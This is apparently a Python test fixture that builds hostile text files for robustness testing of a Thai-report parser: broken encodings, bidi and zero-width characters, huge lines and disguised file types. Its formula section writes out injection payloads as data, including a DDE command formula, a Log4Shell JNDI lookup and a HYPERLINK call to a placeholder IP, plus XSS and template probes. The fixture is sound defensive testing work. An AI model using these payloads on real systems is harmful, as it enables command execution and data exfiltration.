"""Hostile texts: every encoding broken, characters that hide or reorder, lines without end, formulas."""

from __future__ import annotations

from functools import partial

from tests.hostile.parts import Cost, Hostile, Recipes, chance_for

_THAI = "1. ชื่อตัวชี้วัด : ร้อยละความสำเร็จของโครงการ ๑๒.๕ (ผลผลิต)\n5. เป้าหมาย : ร้อยละ 80\n"
_CODECS = ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be", "cp874", "utf-7")


def files() -> list[Hostile]:
    """Return every hostile text."""
    recipes = Recipes("text", ".txt")
    _encodings(recipes)
    _characters(recipes)
    _lengths(recipes)
    _formulas(recipes)
    _rubbish(recipes)
    return recipes.files


def _encodings(recipes: Recipes) -> None:
    for codec in _CODECS:
        good = (_THAI * 20).encode(codec)
        chance = chance_for(codec)
        middle = len(good) // 2
        recipes.add(f"{codec}-broken", good[:middle] + chance.randbytes(9) + good[middle:])
        recipes.add(f"{codec}-odd", good[:middle] + good[middle + 1 :])
        recipes.add(f"{codec}-cut", good[:-1])
        recipes.add(f"{codec}-zeros", good + bytes(5000))
        recipes.add(f"{codec}-in-cp874", good[:middle] + (_THAI * 9).encode("cp874"))
        recipes.add(f"{codec}-half-rubbish", good[:middle] + chance.randbytes(middle))
    for wrong in ("latin-1", "cp1252", "cp874"):
        mangled = (_THAI * 20).encode("utf-8").decode(wrong, "replace").encode("utf-8")
        recipes.add(f"mangled-{wrong}", mangled)
        twice = mangled.decode("utf-8").encode("utf-8").decode("latin-1").encode("utf-8")
        recipes.add(f"mangled-twice-{wrong}", twice)
    for name, mark in {"16": b"\xff\xfe", "16-be": b"\xfe\xff", "32": b"\xff\xfe\0\0", "8": b"\xef\xbb\xbf"}.items():
        recipes.add(f"mark-{name}-alone", mark)
        recipes.add(f"mark-{name}-lies", mark + (_THAI * 9).encode("cp874"))
        recipes.add(f"marks-{name}", mark * 5000)


def _characters(recipes: Recipes) -> None:
    characters = {
        "nul": "\0",
        "bidi": "\u202e",
        "isolates": "\u2066\u2067",
        "zero-width": "\u200b",
        "joiner": "\u200d",
        "private": "\uf70a",
        "noncharacter": "\uffff",
        "replacement": "\ufffd",
        "tag": "\U000e0041",
        "marks": "\u0e49",
        "vowels": "\u0e40",
        "nikhahit": "\u0e4d\u0e32",
        "digits": "๙",
        "boxes": "☑☐",
        "separators": "\u2028\u2029\x85",
        "carriage-returns": "\r",
        "form-feeds": "\f",
        "escape": "\x1b[2J\x1b]0;a\x07",
        "end-of-file": "\x1a",
        "tabs": "\t",
        "colons": ":",
        "brackets": "(",
        "dots": ".",
        "hyphens": "- ",
    }
    for name, character in characters.items():
        recipes.add(f"among-{name}", character.join(_THAI * 5).encode())
        recipes.add(f"only-{name}", (character * 20_000).encode())
        recipes.add(f"before-{name}", (character * 500 + "\n" + _THAI * 9).encode())
    surrogates = (_THAI + "\ud800\udfff\udc00").encode("utf-8", "surrogatepass")
    recipes.add("surrogates", surrogates * 20)
    recipes.add("surrogates-16", (_THAI * 9 + "\ud800").encode("utf-16-le", "surrogatepass"))
    recipes.add("overlong", _THAI.encode() + b"\xc0\xaf\xe0\x80\xaf\xf8\x88\x80\x80\x80" * 9)


def _lengths(recipes: Recipes) -> None:
    for name, piece in {
        "thai": "ก",
        "words": "ชื่อตัวชี้วัด ",
        "digits": "๑",
        "spaces": " ",
        "heading": "1. ",
        "dates": "5 ม.ค. 67 ",
    }.items():
        recipes.add(f"one-line-{name}", partial(_endless, piece, 50_000))
        recipes.add(f"one-line-{name}-20-million", partial(_endless, piece, 20_000_000), Cost.HEAVY)
    recipes.add("lines-million", lambda: b"\n" * 1_000_000 + _THAI.encode(), Cost.HEAVY)
    recipes.add("lines-of-thai-100000", lambda: _THAI.encode() * 50_000, Cost.HEAVY)
    recipes.add("reports-2000", lambda: _report() * 2000, Cost.HEAVY)
    recipes.add("headings-5000", lambda: "5. เป้าหมาย : ร้อยละ 80\n".encode() * 5000)
    recipes.add("quarters-5000", lambda: "(6.1) ไตรมาสที่ 1 : วันที่ 5, 12 และ 19 มีนาคม 2564\n".encode() * 5000, Cost.HEAVY)
    recipes.add("empty", b"")
    recipes.add("one-byte", b"x")
    recipes.add("one-line-end", b"\n")


def _endless(piece: str, count: int) -> bytes:
    return (piece * (count // len(piece))).encode()


def _report() -> bytes:
    heads = ["1. ชื่อตัวชี้วัด : ก", "2. นิยาม : ข", "3. วิธีคำนวณ : ค", "5. เป้าหมาย : ร้อยละ 80", "6. ผลงานที่ทำได้ : ร้อยละ 90"]
    return "\n".join([*heads, ""]).encode()


def _formulas(recipes: Recipes) -> None:
    for at, formula in enumerate(
        [
            "=1+1",
            "=cmd|' /C calc'!A0",
            '=HYPERLINK("http://203.0.113.7","a")',
            "+1+1",
            "-1+1",
            "@SUM(1)",
            "\t=1",
            "\r=1",
            "＝1+1",
            "#N/A",
            "'=1",
            "<script>alert(1)</script>",
            "_x0041_",
            "]]>",
            "%s%s%n",
            "${jndi:ldap://203.0.113.7/a}",
            "{{7*7}}",
            "\ufeff=1",
        ]
    ):
        lines = "\n".join(f"{label} : {formula}" for label in ("1. ชื่อตัวชี้วัด", "2. นิยาม", "5. เป้าหมาย", "6. ผลงาน"))
        recipes.add(f"formula-{at:02}", f"{formula}\n{lines}\n{formula}".encode())


def _rubbish(recipes: Recipes) -> None:
    suffixes = (
        "txt",
        "pdf",
        "docx",
        "html",
        "zip",
        "png",
        "jpg",
        "tif",
        "gif",
        "bmp",
        "webp",
        "mhtml",
        "doc",
        "rtf",
        "odt",
        "xlsx",
    )
    starts = (
        b"",
        b"%PDF-1.7\n",
        b"PK\3\4",
        b"<html>",
        b"\xff\xd8\xff\xe0",
        b"II*\0\x08\0\0\0",
        b"{\\rtf1 ",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    )
    for suffix in suffixes:
        for at, start in enumerate(starts):
            cost = Cost.HEAVY if start.startswith((b"{\\rtf", b"\xd0\xcf")) else Cost.CHEAP  # starts LibreOffice
            data = start + chance_for(f"{suffix}{at}").randbytes(3000)
            recipes.add(f"rubbish-{at}", data, cost, f".{suffix}")
        recipes.add("nothing", b"", suffix=f".{suffix}")
    recipes.add("json", b'{"file": "a", "pages": [' + b"[" * 50_000, suffix=".jsonl")
    recipes.add("ledger", b"SQLite format 3\0" + chance_for("ledger").randbytes(5000), suffix=".raingan")
    recipes.add("table", b"=1,+1,-1,@x\n" * 500, suffix=".csv")
    recipes.add("program", b"\x7fELF" + bytes(500), suffix=".pdf")
    recipes.add("script", b"#!/bin/sh\ntouch /tmp/hostile-was-here\n", suffix=".sh")
